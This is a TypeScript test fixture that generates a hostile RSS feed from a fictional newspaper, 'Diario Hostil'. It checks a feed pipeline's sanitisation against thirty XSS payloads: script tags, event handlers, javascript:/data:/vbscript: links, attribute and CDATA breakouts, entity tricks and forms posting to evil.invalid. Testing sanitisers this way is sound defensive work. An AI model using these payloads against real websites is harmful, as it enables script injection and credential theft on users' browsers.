/*
 * A feed written by an attacker: thirty items whose titles, summaries, authors, categories and
 * images carry script tags, event handlers, javascript: and data: links, SVG, CSS, markup that
 * breaks out of attributes and elements, entity tricks and CDATA tricks — each one still a real
 * article at an http(s) address, so that all thirty are stored and shown. Three more items have
 * only a javascript:, data: or vbscript: address and must never be stored.
 */

/** How the hostile newspaper is named in the sources file. */
export const HOSTILE_NEWSPAPER = { slug: "diario-hostil", name: "Diario Hostil" };

/** Every item's URL starts with this (on the reserved .invalid domain). */
export const HOSTILE_SITE = "https://hostil.invalid";

/** How many items of the feed must be stored. */
export const HOSTILE_STORED = 30;

/** One item: fields as written in the XML (already escaped or wrapped where the attack needs it). */
interface HostileItem {
  title: string;
  link: string;
  description: string;
  author?: string;
  category?: string;
  media?: string;
}

const cdata = (text: string) => `<![CDATA[${text}]]>`;
const x = (n: number) => `alert('xss-${n}')`;

/** The thirty attacks (n is the payload's marker: a dialog showing "xss-n" would mean it ran). */
function attacks(): HostileItem[] {
  const items: Omit<HostileItem, "link">[] = [
    { title: cdata(`<script>${x(1)}</script>Concejo aprueba presupuesto`), description: "Texto normal." },
    { title: cdata(`<img src=x onerror="${x(2)}">Lluvias en la costa`), description: cdata(`<img src="nada.png" onerror="${x(2)}">`) },
    { title: "Hallazgo arqueológico en el desierto", description: cdata(`<p onclick="${x(3)}">Clic aquí</p><script>${x(3)}</script>`) },
    { title: "Enlace con javascript en el resumen", description: cdata(`<a href="javascript:${x(4)}">Leer más</a>`) },
    {
      title: cdata(`<svg onload="${x(5)}"><circle r="5"/></svg>Nueva vía al llano`),
      description: cdata(`<svg><script>${x(5)}</script></svg>`),
    },
    {
      title: "Estilos que ocultan la página",
      description: cdata(`<style>body{display:none}</style><div style="background:url(javascript:${x(6)})">Mercados</div>`),
    },
    { title: "Imagen con dirección javascript", description: "Resumen.", media: `javascript:${x(7)}` },
    {
      title: "Marco incrustado en la nota",
      description: cdata(`<iframe src="javascript:${x(8)}"></iframe><iframe srcdoc="<script>${x(8)}</script>"></iframe>`),
    },
    { title: cdata(`"><script>${x(9)}</script> Salida de atributo`), description: cdata(`'"><img src=x onerror=${x(9)}>`) },
    { title: cdata(`</title><script>${x(10)}</script>Cierre de título`), description: "Resumen del cierre." },
    { title: `{{constructor.constructor("${x(11)}")()}} Plantillas`, description: "${" + x(11) + "} #{" + x(11) + "}" },
    { title: "Dirección de datos", description: cdata(`<a href="data:text/html,<script>${x(12)}</script>">abrir</a>`) },
    {
      title: `&lt;script&gt;${x(13)}&lt;/script&gt; Entidades escapadas`,
      description: `&amp;lt;script&amp;gt;${x(13)}&amp;lt;/script&amp;gt;`,
    },
    { title: "Objetos y embebidos", description: cdata(`<object data="javascript:${x(14)}"></object><embed src="javascript:${x(14)}">`) },
    { title: "Fórmulas peligrosas", description: cdata(`<math><mi xlink:href="javascript:${x(15)}">x</mi></math>`) },
    { title: cdata(`<body onload=${x(16)}>Cuerpo nuevo`), description: "Resumen." },
    {
      title: "Texto al revés \u202Egnp.exe\u202C y \u200Binvisibles\u200B",
      description: "Caracteres de control \u0007 y \u001b[31m rojos.",
    },
    { title: cdata(`</script><script>${x(18)}</script> Cierre de script`), description: cdata(`</script><script>${x(18)}</script>`) },
    { title: "Autor peligroso", description: "Resumen.", author: cdata(`<script>${x(19)}</script> Redactor`) },
    { title: "Categoría peligrosa", description: "Resumen.", category: cdata(`<script>${x(20)}</script>`) },
    { title: "Redirección por meta", description: cdata(`<meta http-equiv="refresh" content="0;url=javascript:${x(21)}">`) },
    { title: "Base ajena", description: cdata(`<base href="https://evil.invalid/"><a href="/robar">enlace</a>`) },
    {
      title: "Formulario ajeno",
      description: cdata(`<form action="https://evil.invalid/robar"><input name="clave"><button>Enviar</button></form>`),
    },
    {
      title: "Hoja de estilos ajena",
      description: cdata(
        `<link rel="stylesheet" href="https://evil.invalid/x.css"><style>@import url(https://evil.invalid/y.css);</style>`,
      ),
    },
    {
      title: "Imagen con srcset",
      description: cdata(`<img src="https://evil.invalid/x.png" srcset="javascript:${x(25)} 1x" onerror="${x(25)}">`),
    },
    {
      title: "Dos puntos disfrazados",
      description: cdata(`<a href="javascript&colon;${x(26)}">a</a><a href="jav&#x09;ascript:${x(26)}">b</a>`),
    },
    { title: cdata(`<scr<script>ipt>${x(27)}</scr</script>ipt> Anidado`), description: "Resumen." },
    { title: "Detalles que se abren", description: cdata(`<details open ontoggle="${x(28)}"><summary>x</summary></details>`) },
    { title: "Marquesina", description: cdata(`<marquee onstart="${x(29)}">noticia</marquee>`) },
    { title: cdata(`]]><script>${x(30)}</script><![CDATA[ CDATA roto`), description: cdata(`<![CDATA[<script>${x(30)}</script>]]>`) },
  ];
  return items.map((item, i) => ({
    ...item,
    link: `${HOSTILE_SITE}/notas/${i + 1}?q="><script>${encodeURIComponent(x(100 + i))}</script>`,
  }));
}

/** Items whose address itself is the attack: the pipeline must refuse them. */
function refused(): HostileItem[] {
  return [
    { title: "Solo javascript", link: `javascript:${x(31)}`, description: "No debe guardarse." },
    { title: "Solo datos", link: `data:text/html,<script>${x(32)}</script>`, description: "No debe guardarse." },
    { title: "Solo vbscript", link: "vbscript:msgbox(33)", description: "No debe guardarse." },
  ];
}

const escapeAttribute = (text: string) => text.replace(/&/g, "&amp;").replace(/"/g, "&quot;").replace(/</g, "&lt;");
const escapeLink = (text: string) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

/** The feed document (RSS 2.0 with Media RSS), its items published over the last `hours` hours before `now`. */
export function hostileFeed(now: number, hours = 3): string {
  const all = [...attacks(), ...refused()];
  const items = all
    .map((item, i) => {
      const published = new Date(now - ((i + 1) / all.length) * hours * 3_600_000).toUTCString();
      return [
        "<item>",
        `<title>${item.title}</title>`,
        `<link>${escapeLink(item.link)}</link>`,
        `<guid isPermaLink="false">hostil-${i + 1}</guid>`,
        `<description>${item.description}</description>`,
        `<pubDate>${published}</pubDate>`,
        item.author ? `<dc:creator>${item.author}</dc:creator>` : "",
        item.category ? `<category>${item.category}</category>` : "",
        item.media ? `<media:content url="${escapeAttribute(item.media)}" medium="image"/>` : "",
        "</item>",
      ].join("");
    })
    .join("\n");
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>${cdata(`<script>${x(99)}</script>Diario Hostil`)}</title><link>${HOSTILE_SITE}/</link>
<description>Un periódico que ataca</description>
${items}
</channel></rss>`;
}
